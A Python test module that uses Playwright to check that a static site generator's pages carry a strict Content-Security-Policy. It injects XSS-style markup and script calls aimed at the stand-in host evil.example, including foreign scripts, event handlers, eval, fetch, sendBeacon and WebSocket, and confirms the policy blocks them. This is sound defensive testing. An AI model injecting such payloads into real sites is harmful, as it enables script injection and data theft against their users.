"""The Content-Security-Policy of the pages: in force, and in nobody's way."""

from __future__ import annotations

import re
from collections.abc import Iterator
from contextlib import ExitStack
from pathlib import Path
from typing import Final

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from tests.building import served
from tests.hostile.test_browser import WATCH
from tests.real import both_engines
from tests.small_site import built_site
from timeline.settings import Engine

pytestmark = pytest.mark.browser

BESIDE: Final = {
    "default-src": ["'none'"],
    "script-src": ["'self'", "file:", "'wasm-unsafe-eval'"],
    "style-src": ["'self'", "file:"],
    "img-src": ["'self'", "file:", "data:"],
    "font-src": ["'self'", "file:"],
    "connect-src": ["'self'"],
    "form-action": ["'self'"],
    "base-uri": ["'none'"],
    "object-src": ["'none'"],
}
"""All that the policy says; a word more has to be argued for here and in SECURITY.md."""

PLANTED: Final = {
    "an inline script": ("<script>ran('script')</script>", "script-src-elem"),
    "a foreign script": ("<script src='https://evil.example/x.js'></script>", "script-src-elem"),
    "a script address": ("<iframe src='javascript:parent.ran(1)'></iframe>", "script-src-elem"),
    "a data script": ("<script src='data:text/javascript,ran(1)'></script>", "script-src-elem"),
    "a handler": ("<img src='assets/favicon-32.png' onload=\"ran('handler')\">", "script-src-attr"),
    "a foreign picture": ("<img src='https://evil.example/x.png'>", "img-src"),
    "a foreign style sheet": ("<link rel=stylesheet href='https://evil.example/x.css'>", "style-src-elem"),
    "an inline style sheet": ("<style>body { color: red }</style>", "style-src-elem"),
    "a style attribute": ("<p style='position: fixed'>x</p>", "style-src-attr"),
    "a frame": ("<iframe src='https://evil.example/'></iframe>", "frame-src"),
    "an object": ("<object data='https://evil.example/x.swf'></object>", "object-src"),
    "a film": ("<video src='https://evil.example/x.mp4'></video>", "media-src"),
    "a base": ("<base href='https://evil.example/'>", "base-uri"),
}  # fmt: skip
"""What somebody got into a page all the same -> the directive that stops it.

One engine's pages do: that those of both have the same policy is tested.
"""

TRIED: Final = {
    "eval": ("eval('ran(1)')", "script-src"),
    "a function of text": ("new Function('ran(1)')()", "script-src"),
    "a timer of text": ("setTimeout('ran(1)', 0)", "script-src"),
    "a request": ("fetch('https://evil.example/').catch(() => 0)", "connect-src"),
    "a beacon": ("navigator.sendBeacon('https://evil.example/', 'x')", "connect-src"),
    "a socket": ("new WebSocket('wss://evil.example/')", "connect-src"),
    "a worker": ("new Worker(URL.createObjectURL(new Blob(['1'])))", "worker-src"),
    "a module": ("import('https://evil.example/x.js').catch(() => 0)", "script-src-elem"),
}
"""What a script that got in all the same may try -> the directive that stops it."""


SEEN: Final = """(start) => new Promise((resolve) => {
  const look = () => seen.some((what) => what.startsWith(start)) ? resolve() : setTimeout(look, 20);
  look();
})"""
"""Waits for a directive to be broken; Playwright's own way of waiting needs ``eval``."""


class PolicySites:
    """A small site with a page of each kind, one of a former id too, as each engine builds it."""

    def __init__(self, folder: Path, servers: ExitStack) -> None:
        self._folder, self._servers = folder, servers
        self._built: dict[Engine, tuple[Path, str]] = {}

    def by(self, engine: Engine) -> tuple[Path, str]:
        """Return the folder of the site that an engine built, and where it is served."""
        if engine not in self._built:
            ada = "name: Ada Fenn\nkind: person\nsummary: A mayor.\nformerly: [ada]\n"
            site = built_site(
                self._folder / engine,
                {"actors/ada-fenn.yaml": ada},
                site_url="https://example.org/",
                engine=engine,
            )
            self._built[engine] = site, self._servers.enter_context(served(site))
        return self._built[engine]


@pytest.fixture(scope="module")
def sites(tmp_path_factory: pytest.TempPathFactory) -> Iterator[PolicySites]:
    """Yield the small site as each engine builds it, made when it is first asked for."""
    with ExitStack() as servers:
        yield PolicySites(tmp_path_factory.mktemp("policy"), servers)


@pytest.fixture
def site(engine: Engine, sites: PolicySites) -> Path:
    """Return the folder of the site that the engine built."""
    return sites.by(engine)[0]


@pytest.fixture
def address(engine: Engine, sites: PolicySites) -> str:
    """Return the address at which it is served."""
    return sites.by(engine)[1]


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """Yield a page that notes what the policy forbids, and what ran; nothing leaves it."""
    context = browser.new_context()
    context.route(re.compile("^https://|^wss://"), lambda route: route.abort())
    made = context.new_page()
    made.add_init_script(WATCH + "window.ran = (what) => seen.push(`ran ${what}`);")
    yield made
    context.close()


def policy_of(text: str) -> dict[str, list[str]]:
    (found,) = re.findall(r'http-equiv="?Content-Security-Policy"? content="([^"]*)"', text)
    return {part.split()[0]: part.split()[1:] for part in found.split(";")}


@both_engines
def test_every_page_has_the_policy_before_anything_it_governs(site: Path) -> None:
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 15
    for path in pages:
        text = path.read_text(encoding="utf-8")
        before = re.split(r'<meta http-equiv="?Content-Security-Policy\b', text, maxsplit=1)[0]
        assert not re.search(r"<(link|script|style|img|base)\b", before), path
        if path.name == "ada.html":
            stated = policy_of(text)
            assert stated.pop("style-src")[0].startswith("'sha256-")
            assert stated == {
                name: ["'none'"] for name in ("default-src", "form-action", "base-uri")
            }
        else:
            assert policy_of(text) == BESIDE, path


@pytest.mark.parametrize("what", PLANTED)
def test_what_is_planted_in_a_page_is_stopped(page: Page, address: str, what: str) -> None:
    markup, directive = PLANTED[what]

    def plant(route: Route) -> None:
        answer = route.fetch()
        body = answer.text()
        place = "</title>" if what == "a base" else "</article>"
        assert body.count(place) >= 1
        route.fulfill(response=answer, body=body.replace(place, place + markup, 1))

    page.route(f"{address}method.html", plant)
    page.goto(f"{address}method.html")
    page.evaluate(SEEN, f"{directive} ")
    assert not [what for what in page.evaluate("seen") if what.startswith("ran")]


@pytest.mark.parametrize("what", TRIED)
def test_what_a_script_tries_is_stopped(site: Path, page: Page, address: str, what: str) -> None:
    code, directive = TRIED[what]
    own = f"try {{ {code} }} catch {{ seen.push('caught') }}"
    page.route(
        f"{address}assets/js/site.js",
        lambda route: route.fulfill(body=own, content_type="text/javascript"),
    )
    page.goto(f"{address}method.html")
    page.evaluate(SEEN, directive)
    assert not [what for what in page.evaluate("seen") if what.startswith("ran")]


@both_engines
@pytest.mark.parametrize("start", ["server", "disk"])
def test_no_page_of_ours_is_in_its_way(page: Page, site: Path, address: str, start: str) -> None:
    base = address if start == "server" else f"{site.as_uri()}/"
    for path in sorted(site.rglob("*.html")):
        name = path.relative_to(site).as_posix()
        if start == "disk" and name == "404.html":
            continue  # it is for servers: it names everything from their root
        page.goto(base + name)
        if name == "actors/ada.html":
            page.wait_for_url(re.compile("ada-fenn"))
        assert page.evaluate("seen") == [], name
        assert page.evaluate("document.styleSheets.length") > 0, name
        # The scripts ran: the choice of light or dark appears with them.
        expect(page.locator("button[data-st-scheme]")).to_be_visible()


@both_engines
@pytest.mark.parametrize("worker", [True, False], ids=["in a worker", "in the page"])
def test_search_works_where_its_worker_starts_and_where_not(
    page: Page, address: str, worker: bool
) -> None:
    if not worker:
        page.add_init_script("delete window.Worker")
    page.goto(f"{address}search.html?q=bridge")
    expect(page.locator(".st-hits li").first).to_be_visible()
    assert page.evaluate("seen") == []
